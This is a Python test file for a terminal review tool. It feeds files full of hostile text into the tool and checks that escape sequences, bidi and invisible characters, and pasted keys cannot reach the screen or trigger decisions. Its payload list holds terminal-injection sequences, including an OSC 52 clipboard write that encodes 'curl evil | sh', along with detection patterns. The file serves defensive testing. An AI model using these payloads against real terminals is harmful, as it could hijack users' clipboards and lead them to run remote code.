#!/usr/bin/env python3
"""Hostile data: whatever a file holds, only the program's own sequences reach the terminal, and the screen stays usable."""

import base64
import json
import re
import shlex

from support import harness, log
from support.harness import check, equal, main, program, scratch
from support.terminal import Pane, workbench

# Each as it would act if it got through raw.
PAYLOADS = {
    "title": "\x1b]0;OWNED\x07",
    "clipboard": "\x1b]52;c;" + base64.b64encode(b"curl evil | sh").decode() + "\x07",
    "clipboard through tmux": "\x1bPtmux;\x1b\x1b]52;c;T1dORUQ=\x07\x1b\\",
    "hyperlink": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clear": "\x1b[2J\x1b[H",
    "leave the alternate screen": "\x1b[?1049l",
    "report": "\x1b[6n\x1b[c\x1bZ\x05",
    "sixel": "\x1bPq#0;2;0;0;0~~~\x1b\\",
    "reset": "\x1bc\x1b[!p",
    "hidden": "\x1b[8mhidden\x1b[0m",
    "C1": "\x9b2J\x9d0;OWNED\x9c\x90q\x9c",
    "NUL, BS, DEL, CR": "a\x00b\x08c\x7fd\re\x0b\x0cf\x0e\x0f",
    "bidi": "\u202etxet\u202c \u2066x\u2069 \u200f\u061c",
    "invisible": "a\u200bb\u2060c\ufeffd\u00ade\U000e0041f",
    "private use and noncharacters": "\ue000\ufffe\U0010ffff",
    "line separators": "one\u2028two\u2029three\u0085four",
    "bracketed paste": "\x1b[200~ynoax\x1b[201~",
}
# Characters that may not be written to the terminal at all, wherever they come from. (A joiner inside an emoji may.)
FORBIDDEN = re.compile(
    "[\x80-\x9f\u200b\u200c\u200e\u200f\u202a-\u202e\u2060-\u206f\u061c\ufeff\u00ad\ue000-\uf8ff\ufffe\u2028\u2029\U000e0000-\U000e007f]")
# Sequences that the program never sends by itself, so that one of them can only come from the data.
NEVER = [rb"\x1b\]0;", rb"\x1b\]52;", rb"\x1b\]8;", rb"\x1bP", rb"\x1b\[6n", rb"\x1b\[c", rb"\x1bZ", rb"\x1bc", rb"\x1b\[!p",
         rb"\x1b\[8m", rb"\x1b\[200~", rb"OWNED\x07", rb"\x00", rb"\x05", rb"\x7f", rb"\x0b", rb"\x0c"]


def record(problem, steps, name):
    return json.dumps({
        "id": name, "generator": problem, "problem": problem, "steps": steps, "final_answer_correct": False,
        "label": len(steps) - 1})


def write_data():
    path = scratch("hostile.jsonl")
    everything = " | ".join(f"{name}: {text} :end" for name, text in PAYLOADS.items())
    with open(path, "w") as file:
        print(record(everything, [everything, everything[::-1]], "all\x1b[31m \u202eat once"), file=file)
        for index, (name, text) in enumerate(PAYLOADS.items()):
            print(record(f"{text} {name} {text}", [text + text, "\n".join([text] * 5), name], text + str(index)), file=file)
        marks = "a" + "\u0301\u0489\u20dd" * 3334
        print(record(f"marks {marks} end of the marks", [marks, marks[1:], "\u0301" * 10000], "marks"), file=file)
        long = "0123456789abcdef" * 65536
        print(record("a step of one megabyte", [long, "words " * 170000, "\u6570" * 300000], "long"), file=file)
        print(record("emoji 👩‍👩‍👧‍👦🏳️‍🌈🇩🇪❤️ end of the emoji", ["👩‍👩‍👧‍👦" * 200, "\ufe0f" * 500 + "x" + "\u200d" * 500], "emoji"), file=file)
    return path


def check_bytes(path, what):
    data = open(path, "rb").read()
    check(len(data) > 500, f"{what}: nothing was recorded")
    for sequence in NEVER:
        found = re.search(sequence, data)
        check(not found, lambda: f"{what}: {sequence!r} was written: "
                                 f"{data[max(0, found.start() - 60):found.end() + 60]!r}")
    found = FORBIDDEN.search(data.decode(errors="replace"))
    check(not found, lambda: f"{what}: {found[0]!r} was written")
    towers = max(map(len, re.findall("[\u0300-\u036f\u0483-\u0489\u20d0-\u20ff]+", data.decode(errors="replace")) or [""]))
    check(towers <= 8, f"{what}: a tower of {towers} marks was written")
    # The alternate screen is left once, at the end, by the program.
    equal(data.count(b"\x1b[?1049l"), 1, f"{what}: leaving the alternate screen")


def hostile_data():
    path = scratch("hostile")
    program("init", path)
    program("-w", path, "import", "--quiet", write_data())
    total = len(PAYLOADS) + 4
    # Another verdict at each size: the one that stands already would be no decision.
    for columns, rows, key, said in ((80, 24, "y", "correct."), (200, 60, "o", "neutral.")):
        raw = scratch(f"raw{columns}")
        pane = workbench(path, columns=columns, rows=rows, record=raw)
        pane.wait(f"of {total} done")
        pane.press("G", "emoji")
        pane.press("g", "▸ all")
        pane.press("Enter", "▌  1")
        for number in range(1, total + 1):
            pane.wait(f" {number}/{total} ", "? keys")
            for keys in ("v j Tab PageDown", "PageDown v", "Tab PageDown PageUp j"):
                pane.keys(*keys.split())
            pane.press(key, said)
            # The frame is whole: header, hints and the list's rule are where they belong.
            lines = pane.lines()
            check(lines[0].startswith(" deepcritic"), lambda: "the header is broken" + pane.shown())
            check(lines[-1].rstrip().endswith("? keys"), lambda: "the hint line is broken" + pane.shown())
            check(len(lines) == rows, lambda: "the screen scrolled" + pane.shown())
            if number < total:
                pane.keys("]")
        equal(pane.fact("alternate_on"), "1", "the alternate screen")
        check("OWNED" not in pane.fact("pane_title"), "the dataset the terminal's title")
        pane.press("?", "─ Keys")
        pane.press("Escape", gone="─ Keys")
        pane.press("q", "order as imported")
        # An unknown key that is itself a control character, and data quoted in messages.
        pane.press("/", "enter keep")
        pane.type("state:\u202enonsense")
        pane.press("Enter", "Error: ")
        pane.press("Escape", gone="enter keep")
        pane.keys("Q")
        pane.wait_end("exit 0")
        pane.close()
        check_bytes(raw, f"{columns}x{rows}")
    log.check_projections(path)


def commands_with_hostile_data():
    path = scratch("hostile")
    raw = scratch("raw list")
    command = f"{shlex.quote(harness.PROGRAM)} -w {shlex.quote(path)}"
    pane = Pane(["sh", "-c", f"{command} list; echo 1 | {command} --linear; {command} show 1; echo over"], record=raw)
    pane.wait("over")
    data = open(raw, "rb").read()
    for sequence in NEVER:
        check(not re.search(sequence, data), f"{sequence!r} was written by a command")
    found = FORBIDDEN.search(data.decode(errors="replace"))
    check(not found, lambda: f"{found[0]!r} was written by a command")
    pane.close()


def pasted_keys_decide_nothing():
    path = scratch("paste")
    program("init", path)
    program("-w", path, "import", "--quiet", write_data())
    pane = workbench(path)
    pane.press("Enter", "▌  1")
    pane.paste("ynoax")
    pane.wait("Pasted text is ignored here")
    pane.press("j", "▌  2", gone="Pasted")
    pane.paste("yyy\nnnn\n\x1b[B\x03")
    pane.wait("Pasted text is ignored here")
    pane.press("k", "▌  1", gone="Pasted")
    # A paste that holds the end mark itself, as a hostile page would: what follows the mark still decides nothing
    # that was not typed. (A terminal strips the mark; tmux does so too.)
    pane.paste("harmless\x1b[201~")
    pane.wait("Pasted text is ignored here")
    equal(log.count(path), 0, "events after three pastes")
    # Into an open line it goes as text, escapes made harmless; several lines open the larger field, and must still be saved.
    pane.press("c", "enter keep")
    pane.paste("yes\nno\x1b[31m")
    pane.wait("yes", "^S save")
    equal(log.count(path), 0, "events after a paste into an open text")
    pane.press("C-s", "Comment saved.")
    value = log.events(path)[0]["value"]
    check(not re.search("[\x00-\x09\x0b-\x1f]", value) and value.startswith("yes\nno"), f"the pasted comment is {value!r}")
    pane.press("y", "Step 1 correct.")
    equal(log.count(path), 2, "events")
    pane.keys("Q")
    pane.wait_end("exit 0")
    pane.close()


def nothing_ends_at_a_nul():
    with open(harness.sample("critiques.merged.jsonl")[0], encoding="utf-8") as file:
        row = json.loads(file.readline())
    row["problem"] = "Before\0behind the problem's NUL."
    row["merged_critiques"][0] = "Before\0behind the critique's NUL. \\boxed{1}."
    line = json.dumps(row) + "\n"
    path, other, file = scratch("nul"), scratch("nul-other"), scratch("nul.jsonl")
    with open(file, "w", encoding="utf-8") as out:
        out.write(line)
    for one in (path, other):
        program("init", one)
        program("-w", one, "import", "--quiet", file)
    program("-w", path, "comment", "1", "--step", "1", "--text", "Before COMMENT behind")
    events = program("-w", path, "export", "reviews", "-o", "-").stdout.decode().replace(" COMMENT ", "\\u0000")
    check("\\u0000" in events, f"no comment in {events!r}")
    reviews = scratch("nul-reviews.jsonl")
    with open(reviews, "w", encoding="utf-8") as out:
        out.write(events)
    program("-w", other, "import", "--quiet", reviews)
    for form in ("text", "markdown", "html", "ansi"):
        shown = program("-w", other, "show", "1", "--format", form, "--width" if form in ("text", "ansi") else "--format",
                        "200" if form in ("text", "ansi") else form).stdout.decode()
        for words in ("behind the problem", "behind the critique", "Before␀behind"):
            check(words in shown, f"{form} lacks {words!r}")
    check(b"nul-1" in program("-w", other, "list", "behind").stdout, "what follows a NUL is not found")
    exported = program("-w", other, "export", "solutions", "-o", "-", "--format", "deepcritic").stdout.decode()
    equal(exported, line, "the record's bytes")
    check("Before␀behind" in program("-w", other, "export", "reviews", "-o", "-").stdout.decode(), "the comment's rest is not exported")


if __name__ == "__main__":
    main(nothing_ends_at_a_nul, hostile_data, commands_with_hostile_data, pasted_keys_decide_nothing)
